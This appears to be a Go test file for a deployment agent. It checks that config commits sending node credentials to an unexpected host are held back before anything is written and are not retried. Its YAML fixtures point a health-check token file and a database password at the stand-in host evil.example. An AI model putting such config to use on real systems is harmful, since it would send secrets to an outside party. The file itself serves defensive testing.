package agent_test

import (
	"strings"
	"testing"
	"time"

	"coin.internal/coin-agent/agent"
	"coin.internal/coin-agent/agent/record"
	"coin.internal/coin-agent/policy"
)

const (
	withDatabase = "environment: {name: sandbox, type: non-production}\nnodes: [{name: node3, context: c, stack: s}]\n" +
		"database: {host: db.example, name: coin, user: coin}\n"
	authorsCheck    = withDatabase + "deployment:\n  checks:\n    - {name: up, http: {url: 'https://evil.example/', token_file: harbor.token}}\n"
	authorsDatabase = "  migration_check: {enabled: true, password_file: db.password}\n"
)

// TestCommitNamesNoHost makes a commit that would send a credential of the node to its
// author: it is held before anything is written, and what ran still runs. It names the line
// of agent.yml with which the same commit goes on.
func TestCommitNamesNoHost(t *testing.T) {
	for name, test := range map[string]struct{ config, want, line string }{
		"a check's token": {authorsCheck, "check up: the file harbor.token of check_dir must not go to evil.example", "harbor.token: [evil.example]"},
		"another database.host": {
			strings.Replace(withDatabase, "db.example", "evil.example", 1) + "deployment:\n" + authorsDatabase,
			"migration_check: the file db.password of check_dir must not go to evil.example: this commit names it as database.host", "db.password: [evil.example]",
		},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, func(w *world) {
				good := w.release("1", configFile, withDatabase)
				w.start()
				w.wantLast(good, record.Succeeded)
				applied := w.plans()
				bad := w.release("2", configFile, test.config)
				w.poll()
				failed := w.wantLast(bad, record.Failed)
				if failed.Transient || failed.Wrote || w.plans() != applied || !strings.Contains(failed.Error, test.want) || !strings.Contains(failed.Hint, test.line) {
					t.Errorf("transient %t, wrote %t, %q (%s)", failed.Transient, failed.Wrote, failed.Error, failed.Hint)
				}
				w.runs("1")
				w.pass(time.Hour)
				if last := w.wantLast(bad, record.Failed); last.ID != failed.ID {
					t.Errorf("tried again as #%d", last.ID)
				}
			})
		})
	}
}

// TestBoundHostChanges moves the database by the policy's word: the commit goes on to the
// question that the database does not answer.
func TestBoundHostChanges(t *testing.T) {
	inWorld(t, func(w *world) {
		rules := &policy.Policy{Checks: &policy.Checks{Credentials: policy.PerService{"missing": {"db2.example"}}}}
		w.change = func(parts *agent.Parts) { parts.Settings.Policy = rules }
		good := w.release("1", configFile, withDatabase)
		w.start()
		w.wantLast(good, record.Succeeded)
		moved := w.release("2", configFile, strings.Replace(withDatabase, "db.example", "db2.example", 1)+
			"deployment:\n  migration_check: {enabled: true, password_file: missing}\n")
		w.poll()
		if sync := w.wantLast(moved, record.Failed); !sync.Transient || !strings.Contains(sync.Error, "missing") || strings.Contains(sync.Error, "must not go") {
			t.Errorf("got %q (%s)", sync.Error, sync.Hint)
		}
	})
}
